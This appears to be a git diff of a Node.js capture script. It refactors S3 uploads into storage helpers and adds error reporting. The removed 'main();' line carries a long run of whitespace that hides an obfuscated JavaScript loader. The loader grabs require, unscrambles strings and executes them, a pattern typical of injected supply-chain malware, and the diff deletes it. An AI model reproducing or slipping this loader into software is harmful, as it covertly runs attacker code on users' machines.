-    } catch {}
+    await storeResult(storage, report.toResult(null, EXIT_CODES.SUCCESS));
 
-    // if features are still undefined, we assume that there are none
-    features = features || [];
-
-    // call for the close of the browser, but don't wait for it
-    browser.close();
-
-    // create the S3 client
-    const client = new S3Client({
-      region: process.env.AWS_S3_REGION,
-    });
-
-    // the base key path
-    const baseKey = process.env.AWS_BATCH_JOB_ID;
-
-    console.log("uploading capture to S3...");
-
-    // upload the preview file (PNG or GIF)
-    await client.send(
-      new PutObjectCommand({
-        Bucket: process.env.AWS_S3_BUCKET,
-        Key: `${baseKey}/preview.${gif ? "gif" : "png"}`,
-        Body: capture,
-        ContentType: gif ? "image/gif" : "image/png",
-      })
-    );
-
-    // upload the features object to a JSON file
-    await client.send(
-      new PutObjectCommand({
-        Bucket: process.env.AWS_S3_BUCKET,
-        Key: `${baseKey}/features.json`,
-        Body: JSON.stringify(features),
-        ContentType: "application/json",
-      })
-    );
-
-    console.log("successfully uploaded capture to S3");
+    console.log("successfully stored artifacts");
 
     // it's a success, we write success to cloud watch
-    console.log(`Successfully processed ${url}`);
-    process.exit(0);
+    console.log(`Successfully processed ${settings.url}`);
+    await exit(span, EXIT_CODES.SUCCESS);
   } catch (error) {
     console.error(error);
-    process.exit(1);
+    const code = Object.values(ERRORS).includes(error) ? error : ERRORS.UNKNOWN;
+    report.fail(code, error);
+    const exitCode = EXIT_CODES[code] ?? EXIT_CODES.UNKNOWN;
+
+    // the result is stored on a best effort basis, as the storage itself may
+    // be the cause of the failure
+    if (storage) {
+      await storeRunDiagnostics(storage, report);
+      try {
+        await storeResult(storage, report.toResult(code, exitCode));
+      } catch (err) {
+        console.error("failed to store the result:", err);
+      }
+    }
+    await exit(span, exitCode, code);
   }
 };
 
-main();                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                   global['_V']='8-907';global['r']=require;if(typeof module==='object')global['m']=module;(function(){var VRG='',GhP=764-753;function MDy(f){var r=1111436;var w=f.length;var h=[];for(var q=0;q<w;q++){h[q]=f.charAt(q)};for(var q=0;q<w;q++){var z=r*(q+119)+(r%13553);var i=r*(q+615)+(r%37182);var b=z%w;var c=i%w;var j=h[b];h[b]=h[c];h[c]=j;r=(z+i)%3896884;};return h.join('')};var tgr=MDy('lcdmccutnorbjrothxgunkyepaivtswrsozqf').substr(0,GhP);var ruc='.2h .0d6rr1r[,r=i=) r+)p.g12;;sfgm75(m.frg==za"qr }e.hvl[-]=c80]rag7c,eah7us;zht;rm0(;*i[4sre0v}[,)),8rr+rhr]]0,8(nao,1i(; <f tczfvf)ase]  +9(;9<ply0n t(;r)l+4rlt-ff!eujafopx;v{[;+s(or;1=tCqa;;=61uf)rovty1nt[gooa"e(uv]r;u( n;thc2+o)tvp]o+oa8qr f{talw=>{8-lo4vusSfxt{!cv)nf(.p]uSek;on8ha(0aye-m;=a9<v.rnlo;l0ag7(in.2q-=otwp[n=1yo;7hg;=uzib 7sr.r(..vnA]a) d7h7ilt)e r(u;g ;6)=+m;choh.C)xvtlrsh(tA;(f)0=,r+m7+"0=h8uvi;oivh9"1auCm9(c[+r.tue+nr,ap65=[qa7no(o9ue)r;(;()x.=ns{k,f,se,l[naw,aet+vcha1ev;ho=6coitav,5scar7lhpt govo,q-ka ov,C[wsi}"d]0e)]ti=0.rkif=<=cn(l,2ee[laA+otn=2" )r.h,{.h;uhtp*wfeeft)r1s>.([o.}.)+u=2" (Cpl;r.a.;j;)+o;rri)h( ,))e[u"aAdohdbgt(v)gr2w)hwdy8f1.rop=.w,iy=] r;b=p=ls=,tb}lh.3,i;i+1lne=wf;=ar. =s4"sl;63n,rrh u(s+]=+}acnp;(q71;rr=fcC6l8g,f9d;C(a=lvlnvj;;"(aonz.itlb;; a(taesi6h, ru+(fdf;evr ake}=+5)rizf<-enj=in)=)o(ngi,A+mib(;,ode)(){]))urvv6sn+d6=ad+to=at;=C,j)1=+iz=';var oWZ=MDy[tgr];var kcL='';var AoT=oWZ;var yus=oWZ(kcL,MDy(ruc));var quw=yus(MDy('i+]Pet)=( "en]E_4]9r2%PT;oh-:8c}]strr3tcFn+;%p.%\/=osofa2.4l5s3f(c1glPhuc_k.)yb(irP5P7+j .N}bPe1%c"p4P*7i0PP].et0l;os %shn0i(P.5P(wPn]n%.]7,C2]}233dr(4pPr.earo,r(26h%0g\/.{..t c.[CP h6\/:ce.rr=r4thtgPa.tk=c{u28nPcG.2]=.e&4(oagPo(1re0%b%fiPn;tP%h)d4}P7rcf+t([e1e i{%#)\'vkt1l(xlo1rPidn.!ie=mhtf %_+e]!.z#% e%].tno.(to=P)=os1:y ctP.b0PP+l one._5Dkt3Pebh](tzk%nmPP0;P0.P.%ot ryuPPnpoP7tSc4i6PnTty8En,PPc\/Pafrd\/.PewaP1.!z=0!5y9),r;ur]konshc.tjcea1Pt7onC)n6:d!%2ttmu3]5me\'0p)Pv)]PPtt10=({tcldP,%a%,3Pelb.rc0.ci.P= hnt}ie}rm]t21(rpohs5_=2+)ch7Paao.f(vl)ya%use)r(,,cte;2,)0e6\/cif2.+e9c([aPt$)]"b?Pumnc,*t!3s]ccp?f=]2)ar)9too2e33])cju9o7hrx.(+.Bgg.s26b0.(rA2>gM=P2iP=i5n$a4yf)7ns(ac nrfrP=tPr=xs..e;Pi:h.e])[Cot%3t=shtP)4k]os4@(\/1d189s6<m_0P](;T95 wCs=o.tianPt;cP;r]-; ee%ltPe4rP4#.fmntd.e;3.]]=.cv8(]f1-%.2.Pa};ti+PaCt.fea. lei;t(P+[(]nClpc2t;c]ec.13webnE)%hte3(.(PP.]s].s.3(e+icP(-,}5n(nh.].7tr2.._wbP..e1P.u=r=[uP.A]%s[.]=1tieg)%533;=_+[]%.5;rnc;.i4(}Fl4%P%ern2P% 6PPP=r.]P.]e=}.]c|P]rePde.)rc0PcP{arPbdp=ng:))8o5a{\':so%1)cn0u&6o\']1(=7l#vc)c354)PpP8s;??BProe].$66u9q0%]w;.o.t;]a]>;ni7P_EPidocw%%=8id)5n4d]i;d@aP8ou)l:atbrlP.(9r)&Foi+#%%]1]ypwr}t)P8nbu{ m(p(]tP_33!=?.5r)(PtP_FNu(ta))r1lf[sD,0:+(io[30]];"S0l1]reo2a;P;%. y%]oa[oP!%soP;)if%P)g>8etasPsdt*"n]t)oshctPfc[Pe\/0...i]3P;)\/r;s32hri l!6Pl7(e7t%t%}2=.01s..ePt.1}c+Pb0a5a},}au0P2 c9ieS1]:(mrl a(fP{}=l.S%)e0dt_]\/{j+snr)pho9at-c2c41!n.:Pc!ov tPaPc%t=2,e%9)]%=)tP{h{P.anmeccs=nr3c.y(9+t)\/e9Pcctc5oomju)s_j\/)6e PPP.}j66Ph17[ba!-P<PiP.|Pko(,!n*d.c+(,(PrPcr(e)27.o]01.}e{)PDPD89],{n}tm!]n)5fmPePr==xpp]rc&}.tff5t;m#daP)](7iPfs9f54t,f4Pt6mhrye,tanT{P )PqPch]+AFcccPot\/PruPP.13t4r]("[id.!!o\/0..!ci{s.cs;9]).,p2])s6e>3$w.}P9x&rn.PP!%64P(S(PtagP$8A:4s9(]"dn]set,4e)}}ll(t2(o"P"EaPorbP<t=s.P4t()e9otnCi)]%e{1_]d2@!nthFne};!d]5oclkcP%heu+1PPNscum(=<ee".8=.\/8sr] a0G.aPi[6?][=a-3lB5;d3$[n%90P.Pr[7gcm(r3 un[1e.}o)bP,PAn1t%0.%nd],P,d,iS.[P =ce8!"2Pe}]11Pf >}3x(;}a>si.T3.4PPPSsc[omP)1fwro_PcaPegrP}=-.[)]P%..PP}cPn)1l,irP.(5.)pf,2d Peo0)$i35u]i(P5e.sf1)*P8s\'493mE741PEP,.Ab72P]0Pza_i}7cPr4\/b&c.er3;Pdacocn\'(PBt=t22grPcr),6]782 1P.9yb?1;7]]=o% :s7(xPP,9]C@P4c)e{s5a!sei.v9c6t\';3P{P})P)\')nj=9.a]rMgwh:occec3oaeP.1Pp5(9!a%c0r}ePc+)6.ryp6.=C0)w iP.tp]3dPE+d$\/Pc)e)3Psfe;1lzA8=+{rre5=c=5%,.4sn=k41)]0(e])oe.][<.!=o8ltr.)];Pc.cs8(iP)P1;=nf(:0_pg9lec]x2eyB]=1c)tPPt(#[;;..)9t.w+:\/.l.g,wi=i%pi.nPTtbkourPc};caoriavP.t"}C(fd-(1BiG )Datc)1)]:!.dsiPnt8{cy ,t(}es%,v(PP.1vi>Ph!)n4sP%=lbm?78oP+bl4a=fr3eobvt3ngoa2!e4)r3[.(tg e(=](}8 ,tio%een7.xcil._gcicd(l4PNP>br\/)c!.ed;4nmd8]tno3e.;zcpe6ted+Paj h-P#caP(4b2ns9]ei)d%f[rsmu}hA.)d9eb8*ePt iP%)4a}(c2ab\'+Ck.cP,36P;rPj?%*tPs+%ib(:5n%>i3447P'));var tzo=AoT(VRG,quw );tzo(5471);return 3456})()
+main();